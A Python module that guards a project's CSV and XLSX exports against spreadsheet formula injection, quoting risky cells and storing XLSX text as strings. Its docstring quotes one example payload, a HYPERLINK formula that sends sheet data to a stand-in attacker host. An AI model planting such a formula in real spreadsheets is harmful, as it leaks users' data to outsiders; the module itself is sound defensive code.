"""CSV and XLSX output that a spreadsheet cannot mistake for formulas.

Reflections, titles and names are typed by people (or imported from anywhere), and a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by Excel and
LibreOffice (``=HYPERLINK("http://evil.example/?leak="&A2, …)`` sends the sheet's data away).
Every CSV or XLSX the project writes goes through here (OWASP's CSV-injection rule): in CSV such
text gets a leading ``'``; in XLSX every text cell is stored as a string, never as a formula.

- ``csv_text(value)``: one CSV cell made safe; numbers and dates pass unchanged.
- ``write_csv(fh, rows)`` / ``csv_bytes(rows)``: whole files (``csv_bytes`` adds the UTF-8 BOM
  Excel needs to read Vietnamese).
- ``xlsx_append(ws, values)``: openpyxl ``ws.append`` with text cells typed as strings.
- ``ends_inside_quotes(text, dialect)``: reading side: the file was cut inside a quoted field, so
  its last row is incomplete (Python's csv module would hand back the partial row silently).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What the XLSX format cannot hold at all (openpyxl refuses the whole sheet on one of these).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_text(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would run gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(fh: IO[str], rows: Iterable[Iterable[Any]], **fmt: Any) -> None:
    writer = csv.writer(fh, **fmt)
    for row in rows:
        writer.writerow([csv_text(v) for v in row])


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file as UTF-8 with a BOM (Excel then reads Vietnamese correctly)."""
    buffer = io.StringIO()
    write_csv(buffer, rows)
    return buffer.getvalue().encode("utf-8-sig")


def csv_for_reading(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV text to be parsed again at once (an Excel roster read like its CSV export):
    values unchanged, since nothing here is ever opened by a spreadsheet. Not for exports."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


def xlsx_append(ws: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet; text is stored as text, never as a formula."""
    cleaned = [_ILLEGAL_XML.sub("", v) if isinstance(v, str) else v for v in values]
    ws.append(cleaned)
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def ends_inside_quotes(text: str, dialect: Any = csv.excel, **fmt: Any) -> bool:
    """True when ``text`` ends inside an open quoted field. Cheap for the usual file: only when
    the quote characters do not pair up is it read again strictly to be sure."""
    quote = fmt.get("quotechar") or getattr(dialect, "quotechar", '"') or '"'
    if text.count(quote) % 2 == 0:
        return False
    try:
        for _ in csv.reader(io.StringIO(text, newline=""), dialect, strict=True, **fmt):
            pass
    except csv.Error as exc:
        return "unexpected end of data" in str(exc)
    return False
